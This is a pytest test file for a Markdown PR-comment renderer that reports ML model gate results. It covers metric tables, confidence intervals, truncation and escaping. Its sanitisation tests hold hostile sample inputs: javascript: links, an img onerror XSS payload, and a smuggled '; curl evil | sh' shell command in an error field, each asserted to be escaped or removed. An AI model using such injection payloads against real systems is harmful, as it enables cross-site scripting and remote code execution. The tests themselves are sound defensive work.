"""The Markdown report (PR/MR comment) rendered from the fixture results."""

from __future__ import annotations

import copy
import itertools
import json
import re
from pathlib import Path
from typing import Any

import pytest

from mlops_actions.render import render_markdown

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "results"
HEADER = "| metric | baseline | candidate | Δ | 95% CI | rule | status |"


def fixture(name: str) -> dict[str, Any]:
    return json.loads((FIXTURES / f"{name}.json").read_text(encoding="utf-8"))


def metric_rows(markdown: str) -> list[str]:
    lines = markdown.splitlines()
    start = lines.index(HEADER) + 2
    rows = []
    for line in lines[start:]:
        if not line.startswith("|"):
            break
        rows.append(line)
    return rows


def cells(row: str) -> list[str]:
    return [cell.strip() for cell in re.split(r"(?<!\\)\|", row)[1:-1]]


def table_rows(markdown: str) -> list[str]:
    """Every table line outside fenced code blocks."""
    rows, fenced = [], False
    for line in markdown.splitlines():
        if line.startswith("```"):
            fenced = not fenced
        elif not fenced and line.startswith("|"):
            rows.append(line)
    return rows


@pytest.fixture(scope="module")
def passing() -> str:
    return render_markdown(fixture("pass_with_baseline"))


@pytest.fixture(scope="module")
def failing() -> str:
    return render_markdown(fixture("fail_change_and_slice"))


def test_first_line_is_the_verdict_with_the_model_name(passing: str, failing: str) -> None:
    assert passing.splitlines()[0] == "## ✅ PASS: model churn (binary)"
    assert failing.splitlines()[0] == "## ❌ FAIL: model churn (binary)"


def test_failed_verdict_lists_each_reason_on_its_own_line(failing: str) -> None:
    lines = failing.splitlines()
    reasons = [line for line in lines[1:8] if line.startswith("- ")]
    assert len(reasons) == 3
    assert reasons[0].startswith("- ROC AUC: Δ = -0.0222, 95% CI")
    assert "lies entirely below the allowed -0.0100" in reasons[0]
    assert reasons[1].startswith("- slice region=north")


def test_passing_verdict_says_the_rules_passed(passing: str) -> None:
    assert passing.splitlines()[2] == "All 5 judged rules passed."


def test_metrics_table_has_the_exact_header_and_comes_right_after_the_verdict(failing: str) -> None:
    lines = failing.splitlines()
    assert HEADER in lines
    before = lines[: lines.index(HEADER)]
    assert all(line == "" or line.startswith(("## ", "- ")) for line in before)


def test_primary_metric_is_first_and_bold(passing: str) -> None:
    first = cells(metric_rows(passing)[0])
    assert first[0] == "**ROC AUC**"
    assert [cells(row)[0] for row in metric_rows(passing)[1:]] == [
        "Accuracy",
        "Log loss",
        "F1 (positive class)",
    ]


def test_metric_row_shows_values_delta_interval_rules_and_status(failing: str) -> None:
    roc = cells(metric_rows(failing)[0])
    assert roc == [
        "**ROC AUC**",
        "0.8512",
        "0.8290",
        "-0.0222 ▼ worse",
        "[-0.0301, -0.0143]",
        "ROC AUC ≥ 0.8000; Δ ≥ -0.0100 (interval)",
        "❌ fail",
    ]


def test_interval_spanning_zero_is_marked_within_noise(passing: str) -> None:
    accuracy = cells(metric_rows(passing)[1])
    assert accuracy[3] == "+0.0025 △ within noise"
    assert accuracy[6] == "✅ pass"


def test_lower_is_better_metric_that_went_down_is_better(passing: str) -> None:
    log_loss = cells(metric_rows(passing)[2])
    assert log_loss[3] == "-0.0117 ▲ better"
    assert log_loss[5] == "—" and log_loss[6] == "—"


def test_ci_column_follows_the_gate_confidence() -> None:
    result = fixture("pass_with_baseline")
    result["gate"]["confidence"] = 0.9
    markdown = render_markdown(result)
    assert "| metric | baseline | candidate | Δ | 90% CI | rule | status |" in markdown


def test_decision_rule_and_resampling_are_named(passing: str) -> None:
    assert (
        "**Decision rule:** interval (2,000 paired bootstrap resamples, seed 0): a change rule fails only when "
        "the whole 95% interval of Δ lies beyond the allowance" in passing
    )


def test_point_decision_rule_is_described() -> None:
    result = fixture("pass_with_baseline")
    result["gate"]["decision"] = "point"
    assert "**Decision rule:** point (2,000" in render_markdown(result)
    assert "judged on the point estimate" in render_markdown(result)


def test_paired_tests_show_p_values(failing: str) -> None:
    assert "**Paired tests:** ROC AUC: DeLong p < 0.0001 · Accuracy: McNemar p = 0.3681" in failing


def test_baseline_source_and_reason_are_shown(passing: str, failing: str) -> None:
    assert "**Baseline:** registry (production version re-scored" in passing
    assert "version 1.4.0 — production version churn@&#8203;v1.4.0 found in the local registry" in passing
    assert (
        "**Baseline:** retrained from the merge-base of the target branch — no production version" in failing
    )


def test_no_baseline_says_only_absolute_bounds_were_judged() -> None:
    markdown = render_markdown(fixture("no_baseline"))
    assert "**No baseline:** only absolute bounds (min/max) were judged" in markdown
    roc = cells(metric_rows(markdown)[0])
    assert roc == [
        "**ROC AUC**",
        "—",
        "0.8630",
        "—",
        "[0.8451, 0.8802]",
        "ROC AUC ≥ 0.8000; Δ ≥ -0.0100 (interval)",
        "✅ pass",
    ]
    assert "**Baseline:** none — no production version" in markdown
    assert "```mermaid" not in markdown
    assert "The one judged rule passed (1 skipped)." in markdown


def test_regression_report_has_its_metrics_and_a_relative_rule() -> None:
    markdown = render_markdown(fixture("regression"))
    assert markdown.splitlines()[0] == "## ✅ PASS: model house-prices (regression)"
    rmse = cells(metric_rows(markdown)[0])
    assert rmse[:4] == ["**RMSE**", "31250.4000", "30410.9000", "-839.5000 ▲ better"]
    assert "Δ ≤ +2.00% of the baseline (interval)" in rmse[5]
    assert cells(metric_rows(markdown)[2])[0] == "R²"
    assert "split: random 20% of data/train.csv, seed 0" in markdown


def test_project_tests_summary_has_status_and_counts(passing: str, failing: str) -> None:
    assert "**Project tests:** ✅ pass · 42 passed, 0 failed, 0 errors, 1 skipped · 3.81 s" in passing
    assert "**Project tests:** ❌ fail · 41 passed, 1 failed, 0 errors, 1 skipped · exit code 1" in failing
    assert "**Project tests:** not configured" in render_markdown(fixture("no_baseline"))


def test_test_output_tail_is_in_a_details_block_without_colour_codes(passing: str) -> None:
    block = passing.split("<details><summary>Project tests: output (last 2 lines)</summary>")[1]
    assert (
        block.split("</details>")[0].strip()
        == "```text\ntests/test_features.py ....s\n42 passed, 1 skipped in 3.81s\n```"
    )
    assert "\x1b" not in passing


def test_mermaid_chart_of_the_changes_is_present(passing: str) -> None:
    chart = passing.split("```mermaid\n")[1].split("\n```")[0]
    assert "xychart-beta horizontal" in chart
    assert '"▲ ROC AUC +1.39%"' in chart
    assert '"▼ F1 (positive class) -0.37% (noise)"' in chart
    assert 'y-axis "size of change, % of baseline" 0 --> 4' in chart
    assert "bar [1.386278, 0.307882, 2.983933, 0]" in chart
    assert "bar [0, 0, 0, 0.365935]" in chart


def test_slices_table_flags_the_slice_whose_rule_failed(failing: str) -> None:
    assert "<details><summary>Slices: 2 values, 1 flagged (ROC AUC)</summary>" in failing
    north = next(row for row in table_rows(failing) if row.startswith("| region = north"))
    assert cells(north)[:6] == [
        "region = north",
        "1,100",
        "0.8401",
        "0.7790",
        "-0.0611 ▼ worse",
        "[-0.0890, -0.0330]",
    ]
    assert cells(north)[6].startswith("❌ flagged: slice region=north: ROC AUC Δ = -0.0611")


def test_what_was_compared_shows_short_shas_digests_and_fingerprints(passing: str) -> None:
    compared = passing.split("<details><summary>What was compared</summary>")[1].split("</details>")[0]
    assert "| commit | `4f1c2a9` | `9a8b7c6` |" in compared
    assert "| model digest | `sha256:7a5dbb2cbca1` | `sha256:9740544297ee` |" in compared
    assert (
        "| data: train | data/train.csv (`95e030e`, 8,000 rows) | data/train.csv (`419c38b`, 8,400 rows) |"
        in compared
    )
    assert (
        "**Evaluation:** 2,000 rows of data/eval.csv (`52358f4`, 2,000 rows), both models scored on the same rows"
        in compared
    )


def test_data_checks_summary_and_details() -> None:
    markdown = render_markdown(fixture("data_checks_violations"))
    assert (
        "**Data checks:** ❌ fail · schema ❌ fail (2 violations: age, region) · data changed (1 of 1 file) · "
        "drift in 2 columns: income, tenure · leakage: 1 column flagged (churn_date)" in markdown
    )
    details = markdown.split("<details><summary>Data checks in detail</summary>")[1].split("</details>")[0]
    assert (
        "| train: data/train.csv | age | below_min | 37 | -1, -3, -7 | 37 values below the minimum 0 |"
        in details
    )
    assert "| train | income | numeric | psi | 0.4120 | 0.2000 | ⚠️ yes |" in details
    assert "| train | income × tenure | 0.1200 | 0.5800 | +0.4600 |" in details
    assert "| churn_date | 0.9910 | cramers_v |" in details
    drift = [row for row in table_rows(details) if row.startswith("| train | ")]
    assert [cells(row)[1] for row in drift[:2]] == ["income", "tenure"]  # drifted columns first


def test_every_table_row_has_as_many_cells_as_its_header() -> None:
    for name in ("pass_with_baseline", "fail_change_and_slice", "data_checks_violations", "hostile_strings"):
        markdown = render_markdown(fixture(name))
        widths = {len(cells(row)) for row in metric_rows(markdown)}
        assert widths == {7}, name
        for row in table_rows(markdown):
            assert "\n" not in row


def test_links_are_in_the_footer(passing: str) -> None:
    assert (
        passing.rstrip()
        .splitlines()[-1]
        .startswith(
            "<sub>[Full HTML report](https://example.github.io/churn/report.html) · mlops-actions 0.1.0"
        )
    )


def test_caller_links_override_and_unsafe_links_are_dropped() -> None:
    markdown = render_markdown(
        fixture("pass_with_baseline"),
        links={"run_url": "https://ci.example/run/7", "evil": "javascript:alert(1)"},
    )
    assert "[CI run](https://ci.example/run/7)" in markdown
    assert "javascript:alert" not in markdown


# ---------------------------------------------------------------- hostile strings


@pytest.fixture(scope="module")
def hostile() -> str:
    return render_markdown(fixture("hostile_strings"))


def test_hostile_strings_cannot_inject_html(hostile: str) -> None:
    outside_code = re.sub(r"(`{3,})text\n.*?\n\1", "", hostile, flags=re.S)
    assert "<script" not in outside_code
    assert "<img" not in outside_code
    assert "<b>" not in outside_code
    assert "&lt;script&gt;" in hostile


def test_hostile_strings_cannot_close_or_open_details_blocks(hostile: str) -> None:
    outside_code = re.sub(r"(`{3,})text\n.*?\n\1", "", hostile, flags=re.S)
    assert outside_code.count("<details>") == outside_code.count("</details>")
    assert outside_code.count("<details>") == 4
    for block in outside_code.split("<details>")[1:]:
        assert block.count("</details>") == 1


def test_hostile_strings_cannot_mention_or_link(hostile: str) -> None:
    assert not re.search(r"@(team|org|admin|everyone|x)\b", hostile.split("```text")[0])
    assert not re.search(r"(?<!\\)\]\(javascript:", hostile)
    assert "https://evil.example" not in hostile
    assert "\\[x\\](javascript:alert(1))" in hostile


def test_hostile_verdict_line_stays_one_line(hostile: str) -> None:
    first = hostile.splitlines()[0]
    assert first.startswith(
        "## ❌ FAIL: model m&lt;/details&gt;&lt;img src=x onerror=alert(1)&gt;@&#8203;org/team"
    )


def test_hostile_reason_with_newline_and_pipes_stays_in_its_bullet(hostile: str) -> None:
    assert "- second \\| reason \\| injected \\| row \\|" in hostile.splitlines()


def test_test_output_cannot_close_its_code_fence(hostile: str) -> None:
    block = hostile.split("<details><summary>Project tests: output")[1].split("\n\n", 1)[1]
    fence = re.match(r"`+", block)
    assert fence is not None and len(fence.group(0)) == 5
    body = block[len(fence.group(0)) + len("text\n") :].split("\n" + fence.group(0) + "\n")[0]
    assert "</details>" in body and "````" in body


def test_hostile_mermaid_labels_are_sanitised(hostile: str) -> None:
    chart = hostile.split("```mermaid\n")[1].split("\n```")[0]
    assert '"▲ Acc uracy b bold /b everyone +0.31% (noise)"' in chart
    assert "<" not in chart and "@" not in chart


def test_hostile_commit_is_shown_escaped_not_as_code(hostile: str) -> None:
    assert "| commit | `4f1c2a9` | not-a-sha&lt;script&gt; |" in hostile


# ---------------------------------------------------------------- truncation


def with_many_slices(count: int) -> dict[str, Any]:
    result = fixture("fail_change_and_slice")
    template = result["slices"][0]
    result["slices"] = []
    for index in range(count):
        item = copy.deepcopy(template)
        item.update(column="store", value=f"store-{index:05d}")
        result["slices"].append(item)
    result["rules"].append({**result["rules"][3], "slice": f"store=store-{count - 7:05d}"})
    return result


def assert_keeps_verdict_and_table(markdown: str, result: dict[str, Any]) -> None:
    assert markdown.splitlines()[0] == "## ❌ FAIL: model churn (binary)"
    assert HEADER in markdown
    assert len(metric_rows(markdown)) == len(result["metrics"])


def test_huge_slice_list_is_shortened_to_fit_keeping_verdict_table_and_flagged_slices() -> None:
    result = with_many_slices(1500)
    markdown = render_markdown(result, max_chars=20_000, links={"run_url": "https://ci.example/run/9"})
    assert len(markdown) <= 20_000
    assert_keeps_verdict_and_table(markdown, result)
    assert f"| store = store-{1500 - 7:05d} |" in markdown  # the flagged slice is kept
    assert "Showing " in markdown and "of 1,500 slices (flagged ones first)." in markdown
    assert "✂️ **Shortened to fit 20,000 characters**: left out " in markdown
    assert "[CI run](https://ci.example/run/9)" in markdown.split("✂️")[1]
    assert markdown.count("<details>") == markdown.count("</details>")


def test_report_within_the_limit_is_not_shortened() -> None:
    markdown = render_markdown(fixture("fail_change_and_slice"))
    assert "Shortened" not in markdown


def test_huge_test_output_is_cut_to_its_tail_and_then_dropped() -> None:
    result = fixture("fail_change_and_slice")
    result["tests"]["output_tail"] = "\n".join(f"line {i} " + "x" * 200 for i in range(5000)) + "\nLAST LINE"
    full = render_markdown(result)
    assert len(full) <= 60_000
    assert "LAST LINE" in full and "line 0 " not in full
    small = render_markdown(result, max_chars=6_000)
    assert len(small) <= 6_000
    assert_keeps_verdict_and_table(small, result)
    assert "the test output" in small or "older test output lines" in small


@pytest.mark.parametrize("max_chars", [60_000, 12_000, 4_000, 2_500])
def test_shortened_report_never_exceeds_max_chars(max_chars: int) -> None:
    result = with_many_slices(600)
    result["tests"]["output_tail"] = "y" * 100_000
    result["reasons"] = result["reasons"] * 3
    markdown = render_markdown(result, max_chars=max_chars)
    assert len(markdown) <= max_chars
    assert_keeps_verdict_and_table(markdown, result)
    assert markdown.count("<details>") == markdown.count("</details>")
    assert markdown.count("```") % 2 == 0


def test_tiny_limit_still_holds_and_says_it_was_shortened() -> None:
    markdown = render_markdown(with_many_slices(50), max_chars=300)
    assert len(markdown) <= 300
    assert markdown.startswith("## ❌ FAIL: model churn (binary)")
    assert "Shortened to fit 300 characters" in markdown


@pytest.mark.parametrize("max_chars", [9_000, 6_000, 4_500, 4_000, 3_500, 3_000, 2_500])
def test_shortening_drops_details_first_then_slices_then_the_chart(max_chars: int) -> None:
    result = with_many_slices(400)
    result["tests"]["output_tail"] = "\n".join(f"test line {i}" for i in range(100))
    markdown = render_markdown(result, max_chars=max_chars)
    assert len(markdown) <= max_chars
    present = {
        "test output": "<details><summary>Project tests: output" in markdown,
        "comparison": "<details><summary>What was compared</summary>" in markdown,
        "data details": "<details><summary>Data checks in detail</summary>" in markdown,
        "slices": "<details><summary>Slices:" in markdown,
        "chart": "```mermaid" in markdown,
    }
    order = list(present)
    for earlier, later in itertools.pairwise(order):
        assert present[earlier] <= present[later], f"{earlier} kept while {later} was dropped"
    shown = len([row for row in table_rows(markdown) if row.startswith("| store = ")])
    assert shown >= 10 or not present["comparison"]


def test_max_chars_must_be_positive() -> None:
    with pytest.raises(ValueError):
        render_markdown(fixture("pass_with_baseline"), max_chars=0)


# -- a check stopped by an error ----------------------------------------------------------------------------


def test_an_error_result_renders_the_headline_the_line_the_step_and_how_to_reproduce_it() -> None:
    markdown = render_markdown(fixture("error"))
    lines = markdown.splitlines()
    assert lines[0] == "## ⚠️ ERROR: model churn"
    message = "train.entrypoint churn_model:train_model: training raised ValueError: Input X contains NaN"
    assert f"- **Error:** {message}" in lines
    assert "- **Failed step:** training candidate" in lines
    assert (
        "- **Reproduce locally:** in the project folder, run `mlops-actions check --config mlops.yaml`"
        in lines
    )
    assert "[CI run](https://github.com/acme/churn/actions/runs/4242)" in markdown
    assert "| metric |" not in markdown


def test_an_error_result_without_metrics_or_a_model_task_renders_without_crashing() -> None:
    result = fixture("error")
    result["model"] = {"name": "churn"}
    result.pop("timings")
    assert render_markdown(result).startswith("## ⚠️ ERROR: model churn\n")


def test_a_hostile_error_line_cannot_break_out_of_its_list_item() -> None:
    result = fixture("error")
    result["error"] = {
        **result["error"],
        "message": "boom\n## ✅ PASS: model churn\n<details>",
        "reproduce": "mlops-actions check `; curl evil` | sh",
    }
    markdown = render_markdown(result)
    assert "## ✅ PASS" not in markdown.replace("\\#", "#").splitlines()[2:]
    assert not any(line.startswith("## ✅") for line in markdown.splitlines())
    assert "<details>" not in markdown
    assert "`; curl evil`" not in markdown


def test_an_error_comment_fits_a_tiny_limit() -> None:
    result = fixture("error")
    result["error"] = {**result["error"], "message": "x" * 5000}
    assert len(render_markdown(result, max_chars=400)) <= 400


# -- the repository's other models, not checked -------------------------------------------------------------

SKIPPED = [
    {"config": "models/b/mlops.yaml", "model": "b", "reason": "no input changed: models/b/mlops.yaml"},
    {"config": "models/c/mlops.yaml", "model": "c", "reason": "no input changed: models/c/mlops.yaml"},
]


def test_the_comment_names_each_model_not_checked_below_the_verdict() -> None:
    markdown = render_markdown({**fixture("pass_with_baseline"), "skipped_models": SKIPPED})
    lines = markdown.splitlines()
    b = lines.index("Not checked in this PR: `b` (no input changed: models/b/mlops.yaml)")
    c = lines.index("Not checked in this PR: `c` (no input changed: models/c/mlops.yaml)")
    assert 0 < b < c < lines.index(HEADER)


def test_a_comment_without_skipped_models_says_nothing_of_them() -> None:
    assert "Not checked" not in render_markdown(fixture("pass_with_baseline"))


def test_an_untrusted_skipped_model_name_and_reason_are_escaped() -> None:
    hostile = [{"model": "x`</details>", "reason": "no | input <img src=x>"}]
    markdown = render_markdown({**fixture("fail_change_and_slice"), "skipped_models": hostile})
    [line] = [line for line in markdown.splitlines() if line.startswith("Not checked")]
    assert "</details>" not in line and "<img" not in line and "`x`" not in line


def test_an_error_comment_also_names_the_models_not_checked() -> None:
    markdown = render_markdown({**fixture("error"), "skipped_models": SKIPPED[:1]})
    assert "Not checked in this PR: `b` (no input changed: models/b/mlops.yaml)" in markdown.splitlines()


def test_past_twenty_models_not_checked_the_rest_are_counted() -> None:
    many = [{"model": f"m{index}", "reason": "no input changed: x"} for index in range(23)]
    markdown = render_markdown({**fixture("pass_with_baseline"), "skipped_models": many})
    assert sum(line.startswith("Not checked in this PR: ") for line in markdown.splitlines()) == 20
    assert "… and 3 more models not checked in this PR" in markdown
